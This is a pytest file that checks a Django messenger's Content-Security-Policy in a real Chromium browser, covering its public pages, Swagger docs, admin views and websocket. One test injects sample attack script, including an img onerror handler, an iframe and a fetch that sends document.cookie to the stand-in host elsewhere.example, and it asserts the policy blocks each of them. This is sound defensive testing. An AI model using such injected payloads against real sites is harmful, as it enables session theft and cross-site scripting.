"""
Every page in a real browser under its Content-Security-Policy: nothing of it is refused, and what
is no part of it is.
"""

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import pytest
from django.test import Client

from accounts.models import User
from chats.models import Chat
from messaging.services import SendMessage, send_messages
from messenger.realtime.threads import in_db
from tests.chromium import CHROMIUM
from tests.live.servers import Server
from tests.live.test_browser import Tab, browser, empty_tab
from tests.people import PASSWORD

__all__ = ["browser"]

pytestmark = [
    pytest.mark.once,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium to look with"),
]


@pytest.fixture
def server(running: Callable[[str], Server]) -> Server:
    """One will do: the pages are the same under both."""
    return running("uvicorn")


# Says of each thing that the policy refuses, from before the page's first script.
WATCH = """
    window.refused = [];
    document.addEventListener("securitypolicyviolation", event => window.refused.push(
        `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`
    ));
"""


@asynccontextmanager
async def visitor(browser: str, server: Server, session: str) -> AsyncIterator[Tab]:
    """An empty tab of somebody who is signed in to the admin."""
    async with empty_tab(browser) as opened:
        for part in ("Runtime", "Log", "Page", "Network"):
            await opened.do(f"{part}.enable")
        await opened.do("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
        cookie = {"name": "sessionid", "value": session, "url": server.url}
        await opened.do("Network.setCookie", **cookie)
        yield opened


async def visit(tab: Tab, server: Server, path: str, ready: str = "true") -> list[str]:
    """Open a page, wait until it is whole; what was refused."""
    await tab.do("Page.navigate", url=server.url + path)
    await tab.until("location.pathname + document.readyState", path.split("?")[0] + "complete")
    await tab.until(f"Boolean({ready})", True)
    # Fonts and images that styles name come after the page.
    await tab.run("document.fonts.ready.then(() => 0)")
    found: list[str] = await tab.run("window.refused")
    return found


def signed_in(user: User, *, on_the_page: bool = False) -> str:
    user.is_staff = user.is_superuser = True
    user.save()
    client = Client()
    client.force_login(user, "accounts.backends.LoginBackend")
    if on_the_page:
        client.post("/sign-in", {"login": user.username, "password": PASSWORD})
    return client.cookies["sessionid"].value


async def test_no_page_does_what_its_policy_refuses(
    browser: str, server: Server, alice: User, bob: User, group: Chat
) -> None:
    session = await in_db(signed_in, alice)
    await in_db(
        send_messages, [SendMessage(author_id=alice.id, chat=group.id, content="one for the bars")]
    )
    pages: dict[str, str] = {
        "/": "document.querySelector('#id_login')",
        "/sign-in": "document.querySelector('#id_login')",
        "/sign-up": "document.querySelector('#id_email')",
        "/appeal": "document.querySelector('#id_text')",
        "/about": "document.querySelector('main')",
        # Swagger UI has drawn the paths, and one of them is open.
        "/docs": "document.querySelectorAll('.opblock').length > 20",
        "/docs/ws": "document.querySelector('details')",
        "/admin/": "document.querySelector('#content-main')",
        "/admin/accounts/user/": "document.querySelector('#result_list')",
        f"/admin/accounts/user/{bob.pk}/change/": "document.querySelector('#user_form')",
        "/admin/accounts/user/add/": "document.querySelector('form')",
        "/admin/chats/chat/": "document.querySelector('#result_list')",
        f"/admin/chats/chat/{group.pk}/change/": "document.querySelector('#chat_form')",
        f"/admin/chats/chat/{group.pk}/stats/": "document.querySelectorAll('svg rect').length > 0",
        "/admin/messaging/message/": "document.querySelector('#changelist')",
        "/admin/password_change/": "document.querySelector('form')",
        "/admin/jsi18n/": "true",
    }
    async with visitor(browser, server, session) as tab:
        found = {path: await visit(tab, server, path, ready) for path, ready in pages.items()}
        # What unfolds on a click has styles of its own.
        await visit(tab, server, "/docs", pages["/docs"])
        await tab.run("document.querySelector('.opblock-summary-control').click()")
        await tab.until("document.querySelectorAll('.opblock-body').length", 1)
        await tab.run("document.querySelector('.try-out__btn').click()")
        await tab.until("document.querySelectorAll('.btn.execute').length", 1)
        found["/docs, unfolded"] = await tab.run("window.refused")
        assert {path: refused for path, refused in found.items() if refused} == {}
        assert tab.thrown == []
    session = await in_db(lambda: signed_in(alice, on_the_page=True))
    async with visitor(browser, server, session) as tab:
        assert await visit(tab, server, "/", "document.body.dataset.access") == []
        assert tab.thrown == []


async def test_what_somebody_smuggled_into_a_page_is_not_done(
    browser: str, server: Server, alice: User
) -> None:
    session = await in_db(signed_in, alice)
    inject = """(() => {
        const script = document.createElement("script");
        script.textContent = "window.smuggled = true";
        document.body.append(script);
        document.body.insertAdjacentHTML("beforeend",
            "<img src=x onerror='window.smuggled = true'><p style='color: red'>");
        fetch("http://elsewhere.example/?" + document.cookie).catch(() => 0);
        const frame = document.createElement("iframe");
        frame.src = "/admin/";
        document.body.append(frame);
    })()"""
    refused = """[...new Set(window.refused.map(r => r.split(" ")[0]))].sort().join()"""
    expected = "connect-src,frame-src,script-src-attr,script-src-elem,style-src-attr"
    async with visitor(browser, server, session) as tab:
        for path in ("/", "/admin/"):
            assert await visit(tab, server, path) == []
            await tab.run(inject)
            await tab.until(refused, expected)
            assert await tab.run("window.smuggled") is None


async def test_a_page_with_a_policy_still_talks_to_its_own_socket(
    browser: str, server: Server, alice: User
) -> None:
    session = await in_db(signed_in, alice)
    open_socket: Any = """new Promise(done => {
        const socket = new WebSocket(`ws://${location.host}/ws?token=x`);
        socket.onclose = event => done(event.code);
    })"""
    async with visitor(browser, server, session) as tab:
        await visit(tab, server, "/")
        assert await asyncio.wait_for(tab.run(open_socket), 15) == 4401
        assert await tab.run("window.refused") == []
